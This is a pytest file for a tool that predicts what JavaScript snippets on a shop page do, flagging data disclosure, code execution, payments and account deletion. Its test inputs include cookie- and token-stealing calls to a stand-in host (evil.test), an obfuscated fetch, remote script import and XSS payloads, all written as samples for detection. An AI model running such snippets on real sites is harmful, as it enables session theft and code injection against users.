"""Scripts in the page: what they do is named, what they hide is marked, the unknown stays unknown."""

import pytest

from worldmodel.effect import DataClass, Hazard
from worldmodel.prediction import Prediction
from worldmodel.snapshot import Snapshot
from worldmodel.structural.script import clicked_selectors, predict_script

HERE = Snapshot(url="https://shop.example.com/p/1")


def run(source: str) -> Prediction:
    """Predict one script."""
    return predict_script(source, HERE)


@pytest.mark.parametrize(
    ("source", "verb"),
    [
        ("fetch('https://evil.test/c?k='+document.cookie)", "disclose"),
        ("const c = document.cookie; fetch('https://evil.test/c?k=' + c)", "disclose"),
        ("navigator.sendBeacon('https://evil.test', document.body.innerText)", "disclose"),
        ("new WebSocket('wss://evil.test/'+localStorage.token)", "disclose"),
        ("new Image().src='https://evil.test/?'+document.cookie", "disclose"),
        ("x = new XMLHttpRequest(); x.open('POST','//evil.test/'); x.send(document.cookie)", "disclose"),
        ("fetch(atob('aHR0cHM6Ly9ldmls')+document.cookie)", "disclose"),
        ("fetch('/api/orders/5', {method:'DELETE'})", "delete"),
        ("fetch('/api/checkout', {method:'POST', body: JSON.stringify({card_number: 1})})", "pay"),
        ("location.href='/logout'", "sign_out"),
        ("location.assign('/account/delete?confirm=1')", "close_account"),
        ("document.querySelector('#place-order').click()", "pay"),
        ("document.getElementById('delete-account').click()", "close_account"),
        ("document.forms[0].submit()", "send"),
        ("eval(x)", "execute"),
        ("setTimeout('alert(1)', 1)", "execute"),
        ("import('https://evil.test/x.js')", "execute"),
        ("[].constructor.constructor('alert(1)')()", "execute"),
        ("document.body.innerHTML='<img src=x onerror=alert(1)>'", "execute"),
        ("localStorage.setItem('a','b')", "configure"),
        ("document.cookie='a=b'", "configure"),
        ("document.forms[0].action='https://evil.test'", "configure"),
        ("document.querySelector('h1').remove()", "update"),
    ],
)  # fmt: skip
def test_acts_are_named(source: str, verb: str) -> None:
    """Requests, clicks, storage and code made from text are told as effects."""
    prediction = run(source)
    assert verb in {effect.verb for effect in prediction.effects}
    assert prediction.state_changing


@pytest.mark.parametrize(
    "source",
    [
        "window['fe'+'tch']('https://evil.test/'+document.title)",
        "self['ev'+'al']('x')",
        "w[`sendBeacon`]('https://evil.test', 1)",
    ],
)
def test_hidden_names_are_put_together_and_marked(source: str) -> None:
    """A name joined from pieces is the name, and hiding it is a hazard."""
    prediction = run(source)
    assert any(Hazard.CODE_UNSEEN in effect.hazards for effect in prediction.effects)
    assert not prediction.abstained


@pytest.mark.parametrize("source", ["weird()", "x => x.y()", "unclosed('", "", "el => el.click()", "a.b`c`"])
def test_what_is_not_proven_abstains(source: str) -> None:
    """A script that shows neither a proven read nor a known act is unknown."""
    prediction = run(source)
    assert prediction.abstained
    assert prediction.state_changing


def test_an_unknown_call_beside_a_known_act_stays_unknown() -> None:
    """One harmless act does not vouch for the rest of the script."""
    prediction = run("localStorage.setItem('a','b'); weird()")
    assert any(Hazard.UNRESOLVED in effect.hazards for effect in prediction.effects)


def test_reads_and_what_they_carry() -> None:
    """A proven read is a read; reading the cookie shows the session to the agent."""
    assert not run("document.title").state_changing
    assert not run("[...document.querySelectorAll('.price')].map(e => e.textContent)").state_changing
    assert DataClass.SESSION in run("document.cookie").effects[0].carries


def test_selectors_of_clicks_fault_12() -> None:
    """The literal target of a scripted click is told, so that it can be judged like any click (fault 12)."""
    source = "document.querySelector('#buy').click(); document.getElementById('ok').click(); el.click()"
    assert clicked_selectors(source) == ("#buy", "#ok")
    assert clicked_selectors("unclosed('") == ()
